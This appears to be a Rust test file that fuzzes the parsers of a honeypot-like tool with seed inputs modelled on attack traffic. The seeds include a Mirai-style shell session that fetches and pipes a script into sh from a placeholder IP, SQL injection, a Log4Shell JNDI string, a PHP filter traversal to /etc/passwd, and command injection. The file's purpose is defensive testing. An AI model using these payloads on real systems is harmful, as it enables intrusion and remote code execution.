//! Every fuzz target on stable: over seed inputs shaped like real traffic, and over
//! random bytes (proptest), so the bodies stay compiled and their checks hold in
//! CI. Deep fuzzing is `fuzz/` under libFuzzer (see its README section).

use proptest::prelude::*;

/// Inputs shaped like what each parser meets, so random mutation is not the only
/// way into the interesting paths.
fn seeds() -> Vec<Vec<u8>> {
    let mut seeds: Vec<Vec<u8>> = vec![
        // Telnet: negotiation, subnegotiation (NAWS, TTYPE), escaped IAC, a login.
        b"\xff\xfb\x18\xff\xfd\x01\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfa\x18\x00xterm\xff\xf0root\r\n\xff\xff\xff\xf4".to_vec(),
        b"\xff\xfa\x18\x00\xff\xff\xff\xfb\x01".to_vec(),
        // Shell: what Mirai-like bots type, with quoting, substitution and redirection.
        b"\x01enable\rsystem\rshell\rsh\r/bin/busybox MIRAI\rcat /proc/mounts; echo -e '\\x41\\x42' > /tmp/.x && cat /tmp/.x | wc -c\rwget http://198.51.100.7/x.sh -O- | sh\r".to_vec(),
        b"\x02uname -a; id; echo $(whoami) `hostname`; history\r\x1b[A\x03ls -la /\x7f\x7f\r\x04".to_vec(),
        b"\x00cat > f <<EOF\nhello\nEOF\nsh -c 'for x in a b; do echo $x; done' 2>&1 | head -n 1\n".to_vec(),
        // SSH: an identification line, and a KEXINIT packet.
        b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n".to_vec(),
        kexinit(),
        // HTTP: method, path, query, body, User-Agent, headers.
        b"GET\0/index.php\0id=1%27%20UNION%20SELECT%201,2--&x=%252e%252e%252f\0\0sqlmap/1.7\0Host: a\nX-Api-Version: ${jndi:ldap://x/${lower:a}}".to_vec(),
        // The webapp persona: script 0 (/index.php) with a UNION probe; 6 (/page.php)
        // with a filter include.
        b"\0id=-1+UNION+SELECT+1,'<script>',3,4,5,6--+-&page=x".to_vec(),
        b"\x06file=php://filter/convert.base64-encode/resource=../../../../etc/passwd\0ip=1;id".to_vec(),
        b"POST\0/wp-login.php\0\0log=admin&pwd=%26%2339%3B+or+1%3D1&#x3c;script&#x3e;\0Mozilla\0Content-Type: application/x-www-form-urlencoded".to_vec(),
        // Terminal output: colours, a title (OSC), a report request, a cut sequence.
        b"\x1b[1;31mred\x1b[0m \x1b]0;title\x07 \x1b[6n \x1b[?1000h \x1b(0q\x1b(B \x1b[12".to_vec(),
        // asciicast v2.
        b"{\"version\": 2, \"width\": 80, \"height\": 24}\n[0.1, \"o\", \"root@web-1:~# \"]\n[0.5, \"i\", \"id\\r\"]\n[1e999, \"o\", \"x\"]\n".to_vec(),
        // A pcap header with one Ethernet/IPv4/TCP SYN.
        pcap(),
        // Reputation lists: FireHOL, Spamhaus JSON, abuse.ch CSV.
        b"# FireHOL\n1.4.0.0/17 ; SBL1\n203.0.113.9\n2001:db8::/32\n::ffff:198.51.100.1/120\n0.0.0.0/0\n".to_vec(),
        b"{\"cidr\":\"192.0.2.0/24\",\"sblid\":\"SBL1\"}\n{\"type\":\"metadata\"}\n\"2026\",\"198.51.100.7\",\"443\"\n".to_vec(),
        // An MMDB file made for the tests.
        include_bytes!("../../enrich/tests/data/GeoLite2-City-fixture.mmdb").to_vec(),
    ];
    seeds.push((0..=255u8).collect());
    seeds.push(Vec::new());
    seeds
}

fn kexinit() -> Vec<u8> {
    let mut payload = vec![20u8];
    payload.extend_from_slice(&[7; 16]);
    for list in [
        "curve25519-sha256,diffie-hellman-group14-sha256",
        "ssh-ed25519",
        "chacha20-poly1305@openssh.com",
        "chacha20-poly1305@openssh.com",
        "hmac-sha2-256",
        "hmac-sha2-256",
        "none",
        "none",
        "",
        "",
    ] {
        payload.extend_from_slice(&(list.len() as u32).to_be_bytes());
        payload.extend_from_slice(list.as_bytes());
    }
    payload.extend_from_slice(&[0, 0, 0, 0, 0]);
    let padding = 4usize;
    let mut packet = ((payload.len() + padding + 1) as u32)
        .to_be_bytes()
        .to_vec();
    packet.push(padding as u8);
    packet.extend_from_slice(&payload);
    packet.extend_from_slice(&[0; 4]);
    packet
}

fn pcap() -> Vec<u8> {
    let mut file = vec![0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0];
    file.extend_from_slice(&[0; 8]);
    file.extend_from_slice(&65_535u32.to_le_bytes());
    file.extend_from_slice(&1u32.to_le_bytes());
    let mut frame = vec![0u8; 12];
    frame.extend_from_slice(&[0x08, 0x00]);
    frame.extend_from_slice(&[
        0x45, 0, 0, 40, 0, 1, 0, 0, 64, 6, 0, 0, 192, 0, 2, 1, 192, 0, 2, 2,
    ]);
    frame.extend_from_slice(&[
        0x30, 0x39, 0, 22, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0,
    ]);
    file.extend_from_slice(&1u32.to_le_bytes());
    file.extend_from_slice(&0u32.to_le_bytes());
    file.extend_from_slice(&(frame.len() as u32).to_le_bytes());
    file.extend_from_slice(&(frame.len() as u32).to_le_bytes());
    file.extend_from_slice(&frame);
    file
}

#[test]
fn every_target_holds_on_the_seeds() {
    for (name, target) in nectar_fuzz::TARGETS {
        for seed in seeds() {
            let result = std::panic::catch_unwind(|| target(&seed));
            assert!(
                result.is_ok(),
                "{name} failed on seed {:?}",
                String::from_utf8_lossy(&seed)
            );
        }
    }
}

#[test]
fn the_fuzz_directory_has_a_target_for_each_body() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/fuzz_targets");
    for (name, _) in nectar_fuzz::TARGETS {
        let file = dir.join(format!("{name}.rs"));
        let text = std::fs::read_to_string(&file).unwrap_or_default();
        assert!(
            text.contains(&format!("nectar_fuzz::{name}(")),
            "{} does not run nectar_fuzz::{name}",
            file.display()
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn random_bytes(data in proptest::collection::vec(any::<u8>(), 0..2048), which in 0..nectar_fuzz::TARGETS.len()) {
        (nectar_fuzz::TARGETS[which].1)(&data);
    }

    #[test]
    fn mutated_seeds(seed in 0..18usize, flips in proptest::collection::vec((any::<usize>(), any::<u8>()), 0..16)) {
        let mut data = seeds().swap_remove(seed % seeds().len());
        for (at, byte) in flips {
            if !data.is_empty() {
                let i = at % data.len();
                data[i] = byte;
            }
        }
        for (_, target) in nectar_fuzz::TARGETS {
            target(&data);
        }
    }
}
